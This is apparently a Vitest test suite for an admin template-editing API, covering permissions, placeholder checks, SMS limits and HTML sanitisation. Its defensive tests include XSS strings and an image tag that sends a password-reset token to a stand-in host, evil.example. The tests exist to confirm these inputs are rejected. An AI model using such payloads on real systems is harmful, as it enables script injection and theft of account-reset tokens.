import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NOTIFICATION_TYPES } from '@shared/constants';
import type { EmailTemplates } from '@shared/contracts/templates';
import { catalogues } from '@shared/messages';
import { adminAuditLog, campaignTemplates, emailTemplates, partners, smsTemplates } from '../../db/schema';
import { createTestApp, latestMail, signIn, TEST_ORIGIN, waitForMail } from '../../test/helpers';

const tr = catalogues.tr.templates;
let ctx: Awaited<ReturnType<typeof createTestApp>>;
let admin: string;
let editor: string;
let user: string;
let partner: string;

beforeAll(async () => {
  ctx = await createTestApp();
  admin = await signIn(ctx.app, 'admin@demo.example.com');
  editor = await signIn(ctx.app, 'editor@demo.example.com');
  user = await signIn(ctx.app, 'kullanici@demo.example.com');
  partner = await signIn(ctx.app, 'partner@demo.example.com');
});
afterAll(async () => ctx?.close());

const api = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, cookie: string | null, payload?: object) =>
  ctx.app.inject({
    method,
    url,
    headers: { origin: TEST_ORIGIN, ...(cookie ? { cookie } : {}) },
    ...(payload ? { payload } : {}),
  });

const emailRow = async (type: 'quote_received' | 'partner_welcome', language: 'tr' | 'en') =>
  (
    await ctx.db
      .select()
      .from(emailTemplates)
      .where(and(eq(emailTemplates.type, type), eq(emailTemplates.language, language)))
  )[0]!;

describe('typed template lists', () => {
  it('lists every e-mail type in both languages with its allowed placeholders', async () => {
    const res = await api('GET', '/api/admin/email-templates', editor);
    expect(res.statusCode).toBe(200);
    const { templates } = res.json<EmailTemplates>();
    const quote = templates.filter((t) => t.type === 'quote_received');
    expect(quote.map((t) => t.language)).toEqual(['tr', 'en']);
    // spec §5 names and the seeded template's own (its button link).
    expect(quote[0]!.placeholders).toEqual(expect.arrayContaining(['partnerName', 'resetLink', 'actionUrl']));
    const newsletter = templates.find((t) => t.type === 'newsletter_monthly');
    expect(newsletter?.placeholders).toContain('unsubscribeLink');
  });

  it('lists notification and SMS templates in both languages', async () => {
    const notes = (await api('GET', '/api/admin/notification-templates', admin)).json().templates;
    expect(notes.length).toBe(NOTIFICATION_TYPES.length * 2);
    expect(notes[0]).toMatchObject({ type: 'quote_request', language: 'tr' });
    const sms = (await api('GET', '/api/admin/sms-templates', admin)).json().templates;
    expect(sms.length).toBe(20);
    expect(sms[0].placeholders).toEqual(expect.arrayContaining(['code', 'name']));
  });
});

describe('who may change templates', () => {
  it.each([
    ['a visitor', null, 401],
    ['a user', 'user', 403],
    ['a partner', 'partner', 403],
  ] as const)('refuses %s (%s) on every PUT, changing nothing', async (_who, key, status) => {
    const cookie = key === 'user' ? user : key === 'partner' ? partner : null;
    const before = await emailRow('quote_received', 'tr');
    for (const [url, body] of [
      ['/api/admin/email-templates/quote_received', { subject: 'x', htmlContent: '<p>x</p>' }],
      ['/api/admin/notification-templates/quote_request', { title: 'x', message: 'y' }],
      ['/api/admin/sms-templates/welcome', { content: 'x' }],
      ['/api/admin/campaign-templates/1', { name: 'x', subject: 'y', htmlContent: '<p>z</p>' }],
    ] as const) {
      expect((await api('PUT', url, cookie, body)).statusCode).toBe(status);
    }
    expect(
      (await api('POST', '/api/admin/campaign-templates', cookie, { name: 'a', subject: 'b', htmlContent: 'c' }))
        .statusCode,
    ).toBe(status);
    expect((await emailRow('quote_received', 'tr')).subject).toBe(before.subject);
  });
});

describe('PUT /api/admin/email-templates/{type}', () => {
  it('answers 404 for an unknown type', async () => {
    const res = await api('PUT', '/api/admin/email-templates/nope', admin, { subject: 'a', htmlContent: '<p>b</p>' });
    expect(res.statusCode).toBe(404);
    expect(res.json().code).toBe('TEMPLATE_NOT_FOUND');
  });

  it('refuses unknown placeholders naming them (400), changing nothing', async () => {
    const before = await emailRow('quote_received', 'tr');
    const res = await api('PUT', '/api/admin/email-templates/quote_received', admin, {
      subject: 'Merhaba {{partnerName}} {{foo}}',
      htmlContent: '<p>{{ bar }} {{customerName}}</p>',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('TEMPLATE_PLACEHOLDER_UNKNOWN');
    expect(res.json().message).toBe('Bilinmeyen yer tutucular: {{foo}}, {{bar}}');
    expect(res.json().fieldErrors).toEqual({
      subject: [tr.unknownPlaceholdersField],
      htmlContent: [tr.unknownPlaceholdersField],
    });
    const after = await emailRow('quote_received', 'tr');
    expect(after).toEqual(before);
  });

  it("refuses HTML that drops a placeholder its sender needs, naming it in the caller's language (400)", async () => {
    const digestRow = async (language: 'tr' | 'en') =>
      (
        await ctx.db
          .select()
          .from(emailTemplates)
          .where(and(eq(emailTemplates.type, 'weekly_summary'), eq(emailTemplates.language, language)))
      )[0]!;
    const before = await digestRow('tr');
    expect(before.htmlContent).toContain('{{digestSections}}');
    const put = (htmlContent: string, lang = 'tr') =>
      ctx.app.inject({
        method: 'PUT',
        url: '/api/admin/email-templates/weekly_summary',
        headers: { origin: TEST_ORIGIN, cookie: admin, 'accept-language': lang },
        payload: { subject: before.subject, htmlContent, language: 'tr' },
      });
    // The admin deleted the digest's sections from the HTML: every digest would arrive empty.
    const dropped = await put(before.htmlContent.replaceAll('{{digestSections}}', ''));
    expect(dropped.statusCode).toBe(400);
    expect(dropped.json()).toMatchObject({
      code: 'TEMPLATE_PLACEHOLDER_MISSING',
      message: 'Bu şablon şu yer tutucular olmadan gönderilemez: {{digestSections}}. Lütfen içeriğe geri ekleyin.',
      fieldErrors: { htmlContent: [tr.missingPlaceholdersField] },
    });
    const english = await put('<p>{{userName}}</p>', 'en');
    expect(english.statusCode).toBe(400);
    expect(english.json().message).toBe(
      'This template cannot be sent without these placeholders: {{digestSections}}. Please add them back.',
    );
    expect(await digestRow('tr')).toEqual(before);

    // Moved elsewhere, written with spaces, it is still there: saved.
    const moved = await put('<div>{{ digestSections }}</div><p>{{userName}}</p>');
    expect(moved.statusCode).toBe(200);
    expect((await digestRow('tr')).htmlContent).toContain('{{ digestSections }}');
    expect((await put(before.htmlContent)).statusCode).toBe(200);
  });

  it('refuses a password reset or verification mail without its single-use link (400)', async () => {
    for (const [type, link] of [
      ['password_reset', '{{resetLink}}'],
      ['registration_pending', '{{resetLink}}'],
      ['email_verification', '{{verifyLink}}'],
    ] as const) {
      const [row] = await ctx.db
        .select()
        .from(emailTemplates)
        .where(and(eq(emailTemplates.type, type), eq(emailTemplates.language, 'en')));
      expect(row!.htmlContent, type).toContain(link);
      const res = await ctx.app.inject({
        method: 'PUT',
        url: `/api/admin/email-templates/${type}`,
        headers: { origin: TEST_ORIGIN, cookie: admin, 'accept-language': 'en' },
        // The admin rewrote the mail as a plain note and lost the link with the button.
        payload: { subject: row!.subject, htmlContent: '<p>Hello {{userName}}, follow the link.</p>', language: 'en' },
      });
      expect(res.statusCode, type).toBe(400);
      expect(res.json(), type).toMatchObject({
        code: 'TEMPLATE_PLACEHOLDER_MISSING',
        message: `This template cannot be sent without these placeholders: ${link}. Please add them back.`,
      });
    }
  });

  it('strips script, event handlers and javascript: links, keeping tables, styles, images and placeholder links', async () => {
    const res = await api('PUT', '/api/admin/email-templates/partner_welcome', admin, {
      subject: 'Hoş geldiniz {{partnerName}}',
      htmlContent:
        '<table width="600" cellpadding="0"><tr><td style="color:#1e3a8a;padding:8px">Merhaba {{partnerName}}' +
        '<script>alert(1)</script><img src="/public-objects/logo.png" onerror="alert(2)" alt="logo">' +
        '<a href="javascript:alert(3)">kötü</a> <a href="{{actionUrl}}" onclick="x()">Panel</a>' +
        '<div style="color:red;expression(alert(4))">z</div></td></tr></table>',
    });
    expect(res.statusCode).toBe(200);
    const html: string = res.json().htmlContent;
    expect(html).not.toMatch(/script|onerror|onclick|javascript:|alert/i);
    expect(html).toContain('<table width="600" cellpadding="0">');
    expect(html).toContain('style="color:#1e3a8a;padding:8px"');
    expect(html).toContain('<img src="/public-objects/logo.png" alt="logo" />');
    expect(html).toContain('<a href="{{actionUrl}}">Panel</a>');
    expect((await emailRow('partner_welcome', 'tr')).htmlContent).toBe(html);
  });

  it('saves English without touching Turkish, audited', async () => {
    const trBefore = await emailRow('quote_received', 'tr');
    const res = await api('PUT', '/api/admin/email-templates/quote_received', admin, {
      subject: 'New request from {{customerName}}',
      htmlContent: '<p>Hello {{partnerName}}</p>',
      language: 'en',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ language: 'en', subject: 'New request from {{customerName}}' });
    expect(await emailRow('quote_received', 'tr')).toEqual(trBefore);
    const audit = await ctx.db.select().from(adminAuditLog).where(eq(adminAuditLog.action, 'template.email.updated'));
    expect(audit.at(-1)).toMatchObject({
      targetType: 'template',
      details: expect.objectContaining({ language: 'en' }),
    });
  });

  it('is used by the next mail of that type: a quote request mails the partner the new subject', async () => {
    const saved = await api('PUT', '/api/admin/email-templates/quote_received', admin, {
      subject: 'YENİ-KONU {{customerName}} talebi',
      htmlContent: '<p>Merhaba {{partnerName}}, {{customerName}} teklif istedi.</p>',
    });
    expect(saved.statusCode).toBe(200);
    const [ege] = await ctx.db.select().from(partners).where(eq(partners.username, 'egelojistik'));
    const res = await api('POST', '/api/quote-requests', user, {
      partnerId: ege!.id,
      fullName: 'Ayşe Yılmaz',
      email: 'ayse@yilmaz.example.com',
      phone: '5321110001',
      companyName: 'Yılmaz Dış Ticaret',
      budget: '15k-50k',
      serviceNeeded: 'Parsiyel Taşımacılık',
      message: 'Aylık iki sevkiyat.',
      kvkkConsent: true,
    });
    expect(res.statusCode).toBe(201);
    const mail = await latestMail(ctx.db, 'partner@demo.example.com');
    expect(mail?.subject).toBe('YENİ-KONU Ayşe Yılmaz talebi');
    expect(mail?.html).toContain('Ayşe Yılmaz teklif istedi.');
  });
});

describe('PUT notification and SMS templates', () => {
  it('saves a notification template and refuses an unknown placeholder', async () => {
    let res = await api('PUT', '/api/admin/notification-templates/follower', admin, {
      title: 'Yeni takipçi',
      message: '{{followerName}} sizi takip ediyor',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      type: 'follower',
      language: 'tr',
      message: '{{followerName}} sizi takip ediyor',
    });
    res = await api('PUT', '/api/admin/notification-templates/follower', admin, { title: '{{code}}', message: 'x' });
    expect(res.statusCode).toBe(400);
    expect(res.json().fieldErrors.title).toEqual([tr.unknownPlaceholdersField]);
    expect(
      (await api('PUT', '/api/admin/notification-templates/none', admin, { title: 'a', message: 'b' })).statusCode,
    ).toBe(404);
  });

  it('accepts 160 SMS characters and refuses 161 with the spec limit text', async () => {
    const ok = 'a'.repeat(150) + ' {{code}}';
    expect(ok.length).toBeLessThanOrEqual(160);
    const exact = ok.padEnd(160, 'b');
    let res = await api('PUT', '/api/admin/sms-templates/otp_verification', admin, { content: exact });
    expect(res.statusCode).toBe(200);
    expect(res.json().content).toBe(exact);
    res = await api('PUT', '/api/admin/sms-templates/otp_verification', admin, { content: exact + 'c' });
    expect(res.statusCode).toBe(400);
    expect(res.json().fieldErrors.content).toEqual([tr.smsTooLong]);
    const [row] = await ctx.db
      .select()
      .from(smsTemplates)
      .where(and(eq(smsTemplates.type, 'otp_verification'), eq(smsTemplates.language, 'tr')));
    expect(row!.content).toBe(exact);
  });
});

describe('builder library /api/admin/campaign-templates', () => {
  it('creates (201, sanitised), lists, updates and deletes, answering 404 afterwards', async () => {
    let res = await api('POST', '/api/admin/campaign-templates', editor, {
      name: 'Bülten',
      subject: 'Kasım bülteni',
      htmlContent: '<p onclick="x()">Merhaba</p><script>alert(1)</script>',
    });
    expect(res.statusCode).toBe(201);
    const created = res.json();
    expect(created).toMatchObject({ name: 'Bülten', subject: 'Kasım bülteni', htmlContent: '<p>Merhaba</p>' });

    res = await api('GET', '/api/admin/campaign-templates', admin);
    expect(res.json().templates[0].id).toBe(created.id);

    res = await api('PUT', `/api/admin/campaign-templates/${created.id}`, admin, {
      name: 'Bülten 2',
      subject: 'Aralık',
      htmlContent: '<p>Yeni</p>',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ name: 'Bülten 2', htmlContent: '<p>Yeni</p>' });

    res = await api('DELETE', `/api/admin/campaign-templates/${created.id}`, admin);
    expect(res.statusCode).toBe(200);
    expect(await ctx.db.select().from(campaignTemplates).where(eq(campaignTemplates.id, created.id))).toEqual([]);
    res = await api('DELETE', `/api/admin/campaign-templates/${created.id}`, admin);
    expect(res.statusCode).toBe(404);
    expect(res.json().code).toBe('CAMPAIGN_TEMPLATE_NOT_FOUND');
    const actions = (await ctx.db.select().from(adminAuditLog)).map((a) => a.action);
    expect(actions).toEqual(
      expect.arrayContaining(['template.campaign.created', 'template.campaign.updated', 'template.campaign.deleted']),
    );
  });

  it('refuses a missing name with the builder text', async () => {
    const res = await api('POST', '/api/admin/campaign-templates', admin, {
      name: ' ',
      subject: 'a',
      htmlContent: '<p>b</p>',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().fieldErrors.name).toEqual(['Lütfen şablon adı girin']);
  });
});

describe('mail HTML safety (issue 18)', () => {
  const securityRow = async (type: 'password_reset' | 'email_verification', language: 'tr' | 'en' = 'tr') =>
    (
      await ctx.db
        .select()
        .from(emailTemplates)
        .where(and(eq(emailTemplates.type, type), eq(emailTemplates.language, language)))
    )[0]!;
  const attack = '<p>Merhaba {{userName}}</p><img src="https://evil.example/c.gif?l={{resetLink}}">';

  it('refuses the token-leaking image with 400 naming the element, storing nothing', async () => {
    const before = await securityRow('password_reset');
    const res = await api('PUT', '/api/admin/email-templates/password_reset', admin, {
      subject: 'Şifre',
      htmlContent: attack,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({
      code: 'TEMPLATE_UNSAFE_HTML',
      message: expect.stringContaining('<img src> içinde {{resetLink}} kullanılamaz'),
      fieldErrors: { htmlContent: [tr.unsafeHtmlField] },
    });
    expect(await securityRow('password_reset')).toEqual(before);
  });

  it('answers in English naming the remote host', async () => {
    const res = await ctx.app.inject({
      method: 'PUT',
      url: '/api/admin/email-templates/quote_received',
      headers: { origin: TEST_ORIGIN, cookie: admin, 'accept-language': 'en' },
      payload: { subject: 'x', htmlContent: '<td background="https://evil.example/bg.png">{{partnerName}}</td>' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toContain(
      '<td background> loads content from an address that is not allowed (evil.example)',
    );
  });

  it.each([
    ['CSS url()', '<div style="background:url(https://evil.example/a.png)">x</div>', '<div style>'],
    ['@import', '<style>@import "https://evil.example/a.css";</style><p>x</p>', '<style>'],
    ['srcset', '<img src="/a.png" srcset="https://evil.example/b.png 2x">', '<img srcset>'],
    ['background', '<table background="//evil.example/t.png"><tr><td>x</td></tr></table>', '<table background>'],
  ])('refuses a remote %s on the builder library, storing nothing', async (_what, htmlContent, element) => {
    const before = (await ctx.db.select().from(campaignTemplates)).length;
    const res = await api('POST', '/api/admin/campaign-templates', editor, { name: 'n', subject: 's', htmlContent });
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('TEMPLATE_UNSAFE_HTML');
    expect(res.json().message).toContain(element);
    expect((await ctx.db.select().from(campaignTemplates)).length).toBe(before);
  });

  it('refuses a campaign draft with a secret in an image', async () => {
    const res = await api('POST', '/api/admin/campaigns', admin, {
      name: 'c',
      subject: 's',
      htmlContent: '<img src="/x.png?u={{unsubscribeUrl}}">',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toContain('<img src>');
  });

  it('lets an editor edit other types but not the account-security ones (403), a master admin can', async () => {
    const before = await securityRow('password_reset');
    const body = { subject: 'Şifre sıfırlama', htmlContent: '<p>{{userName}} <a href="{{resetLink}}">Sıfırla</a></p>' };
    for (const type of ['password_reset', 'email_verification', 'security_alert', 'registration_pending']) {
      const res = await api('PUT', `/api/admin/email-templates/${type}`, editor, body);
      expect([type, res.statusCode, res.json().code]).toEqual([type, 403, 'FORBIDDEN']);
    }
    expect(await securityRow('password_reset')).toEqual(before);
    const master = await api('PUT', '/api/admin/email-templates/password_reset', admin, body);
    expect(master.statusCode).toBe(200);
    expect(master.json().htmlContent).toBe('<p>{{userName}} <a href="{{resetLink}}">Sıfırla</a></p>');
    const other = await api('PUT', '/api/admin/email-templates/quote_received', editor, {
      subject: 'Talep',
      htmlContent: '<p>{{partnerName}}</p>',
    });
    expect(other.statusCode).toBe(200);
  });

  it('accepts a host a master admin allowed; an editor cannot change the list (403)', async () => {
    const htmlContent = '<img src="https://cdn.allowed.example/logo.png" alt=""><p>{{partnerName}}</p>';
    let res = await api('PUT', '/api/admin/email-templates/quote_received', admin, { subject: 'x', htmlContent });
    expect(res.statusCode).toBe(400);
    const patch = (cookie: string, hosts: string[]) =>
      ctx.app.inject({
        method: 'PATCH',
        url: '/api/admin/system-config',
        headers: { origin: TEST_ORIGIN, cookie },
        payload: { mail: { allowedResourceHosts: hosts } },
      });
    res = await patch(editor, ['cdn.allowed.example']);
    expect(res.statusCode).toBe(403);
    res = await patch(admin, ['https://cdn.allowed.example/x']);
    expect(res.statusCode).toBe(400);
    expect(res.json().fieldErrors['mail.allowedResourceHosts.0']).toEqual([catalogues.tr.systemConfig.invalidHost]);
    res = await patch(admin, [' CDN.Allowed.example ']);
    expect(res.statusCode).toBe(200);
    expect(res.json().mail).toEqual({ allowedResourceHosts: ['cdn.allowed.example'] });
    res = await api('PUT', '/api/admin/email-templates/quote_received', admin, { subject: 'x', htmlContent });
    expect(res.statusCode).toBe(200);
  });

  it('at send time leaves a secret empty outside <a href> and text, even in a template stored before the rule', async () => {
    const [stored] = await ctx.db
      .update(emailTemplates)
      .set({ htmlContent: attack + '<a href="{{resetLink}}">Sıfırla</a>' })
      .where(and(eq(emailTemplates.type, 'password_reset'), eq(emailTemplates.language, 'tr')))
      .returning();
    expect(stored).toBeDefined();
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/request-password-reset',
      headers: { origin: TEST_ORIGIN, 'content-type': 'application/json' },
      payload: { email: 'admin@demo.example.com' },
    });
    expect(res.statusCode).toBe(200);
    const mail = await waitForMail(ctx.db, 'admin@demo.example.com', 'password_reset');
    expect(mail?.html).toContain('<img src="https://evil.example/c.gif?l=">');
    expect(mail?.html).toMatch(/<a href="[^"]*reset-password[^"]+">Sıfırla<\/a>/);
  });
});
